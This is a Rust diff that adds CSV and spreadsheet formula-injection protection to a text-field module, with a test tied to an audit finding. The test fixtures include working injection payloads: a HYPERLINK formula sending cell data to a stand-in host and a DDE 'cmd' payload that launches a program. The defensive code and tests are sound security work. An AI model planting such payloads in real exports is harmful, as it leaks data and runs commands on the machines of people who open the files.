@@ -1,6 +1,7 @@
 //! Text fields: trimming, length limits and the folded form used for search.
 
 use crate::invalid::Invalid;
+use std::borrow::Cow;
 
 /// Trims `value` and checks it is not empty and at most `max` characters long.
 pub fn required(field: &str, value: &str, max: usize) -> Result<String, Invalid> {
@@ -118,8 +119,60 @@ pub fn fold(value: &str) -> String {
         .collect()
 }
 
+/// Whether a spreadsheet would read `value` as a formula: it starts with `=`, `+`, `-` or `@`, or with a tab
+/// or a carriage return (which some spreadsheets skip before one), and is not a plain number. A value typed
+/// by one user would then run, as a formula, on the machine of whoever opens the export (CSV injection,
+/// OWASP). Every CSV and XLSX writer of the project asks this one rule: CSV cells through
+/// [`spreadsheet_text`], XLSX cells get the « quote prefix » style (the same leading quote, kept out of view).
+pub fn formula_like(value: &str) -> bool {
+    value.starts_with(['=', '+', '-', '@', '\t', '\r']) && value.trim().parse::<f64>().is_err()
+}
+
+/// A CSV cell that no spreadsheet reads as a formula: a formula-like value gets a leading `'` (the OWASP
+/// rule), and so does a value already starting with `'`, so that [`spreadsheet_unquoted`] reads back
+/// exactly what was written.
+pub fn spreadsheet_text(value: &str) -> Cow<'_, str> {
+    if formula_like(value) || value.starts_with('\'') {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
+    }
+}
+
+/// The value [`spreadsheet_text`] wrote (imports of our own exports read back what was exported).
+pub fn spreadsheet_unquoted(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if formula_like(rest) || rest.starts_with('\'') => rest,
+        _ => cell,
+    }
+}
+
 #[cfg(test)]
 mod tests {
+    /// Finding 7 of « Integrity and privacy »: exported cells are never read as formulas; imports read back
+    /// what was exported.
+    #[test]
+    fn exported_cells_are_not_formulas() {
+        for (value, cell) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+            ),
+            ("+33 1 23", "'+33 1 23"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("'déjà cité", "''déjà cité"),
+            ("-1.5", "-1.5"),
+            ("+2", "+2"),
+            ("Agent = polyvalent", "Agent = polyvalent"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_text(value), cell, "{value:?}");
+            assert_eq!(spreadsheet_unquoted(&spreadsheet_text(value)), value, "{value:?}");
+        }
+    }
     use super::*;
 
     #[test]
